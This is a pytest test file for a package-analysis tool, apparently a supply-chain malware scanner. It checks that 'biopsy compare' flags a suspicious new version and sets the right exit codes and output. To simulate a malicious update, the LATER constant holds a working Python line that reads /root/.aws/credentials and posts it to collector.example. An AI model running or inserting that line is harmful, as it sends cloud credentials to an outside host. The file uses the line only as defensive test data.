"""`biopsy compare`, and `--against`: what they print, and with which exit status."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import sample
from click.shell_completion import ShellComplete

from biopsy import pipeline
from biopsy.cli import elevate
from biopsy.cli.app import biopsy

Run = Callable[..., Any]
LATER = "import urllib.request\nurllib.request.urlopen('https://collector.example/', data=open('/root/.aws/credentials','rb').read())\n"


@pytest.fixture
def later(project: Path, tmp_path: Path) -> Path:
    """The next version of the harmless package, which is harmless no more."""
    folder = tmp_path / "calm-1.1"
    folder.mkdir()
    (folder / "setup.py").write_text((project / "setup.py").read_text().replace("1.0", "1.1"))
    (folder / "calm.py").write_text(LATER + (project / "calm.py").read_text())
    return folder


def test_what_is_new_and_worrying_makes_the_exit_status_one(run: Run, project: Path, later: Path) -> None:
    result = run("compare", "--static-only", "-q", project, later)
    assert result.exit_code == 1, result.output
    assert "Worrying: " in result.stdout
    assert "collector.example" in result.stdout
    assert run("compare", "--static-only", "-q", project, later, "--fail-on", "never").exit_code == 0


def test_the_other_way_round_nothing_worries(run: Run, project: Path, later: Path) -> None:
    result = run("compare", "--static-only", "-q", later, project)
    assert result.exit_code == 0, result.output
    assert "no rule finds that worrying" in result.stdout


def test_json_and_the_ending_of_the_file(run: Run, project: Path, later: Path, tmp_path: Path) -> None:
    document = json.loads(run("compare", "--static-only", "-q", "-f", "json", project, later).stdout)
    assert "collector.example" in {one["what"] for one in document["comparison"]["new"]}
    page = tmp_path / "changes.html"
    assert run("compare", "--static-only", "-q", project, later, "-o", page).stdout == ""
    assert page.read_text("utf-8").startswith("<!doctype html>")


def test_kept_analyses_are_compared_by_their_ids(run: Run, project: Path, later: Path) -> None:
    kept = [
        json.loads(run("analyze", "--static-only", "-q", "-f", "json", one).stdout)["run_id"]
        for one in (project, later)
    ]
    assert run("compare", "-q", *kept).exit_code == 1
    assert "collector.example" in run("show", kept[1], "--against", kept[0]).stdout
    assert "Since" not in run("show", kept[1], "--against", "none").stdout


def test_what_was_not_compared_makes_the_exit_status_three(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    pair = pipeline.Pair(sample.before(), sample.malicious())
    monkeypatch.setattr(pipeline, "compare", lambda *_: pair)
    monkeypatch.setattr(elevate, "ensure_root", lambda *_: None)
    assert run("compare", "-q", "npm:a", "npm:b").exit_code == 1
    assert run("compare", "-q", "npm:a", "npm:b", "--fail-on", "never").exit_code == 3


@pytest.mark.parametrize("wrong", ["./nowhere.tgz", "20200101-000000-00000000"])
def test_what_is_not_there_is_wrong_usage(run: Run, project: Path, wrong: str) -> None:
    assert run("compare", "--static-only", "-q", wrong, project).exit_code == 2
    assert run("analyze", "--static-only", "-q", project, "--against", wrong).exit_code == 2


def test_one_thing_to_compare_with_goes_with_one_target(run: Run, project: Path) -> None:
    result = run("analyze", "--static-only", "-q", project, project, "--against", project)
    assert result.exit_code == 2
    assert "one TARGET" in result.stderr


def test_the_tab_key_offers_what_is_kept(run: Run, project: Path, tmp_path: Path) -> None:
    run_id = json.loads(run("analyze", "--static-only", "-q", "-f", "json", project).stdout)["run_id"]
    shell = ShellComplete(biopsy, {}, "biopsy", "_BIOPSY_COMPLETE")
    home = ["--home", str(tmp_path / "home")]
    offered = {item.value for item in shell.get_completions(["compare", *home], "pypi:c")}
    assert "pypi:calm@1.0" in offered
    assert run_id in {item.value for item in shell.get_completions(["show", *home], run_id[:8])}
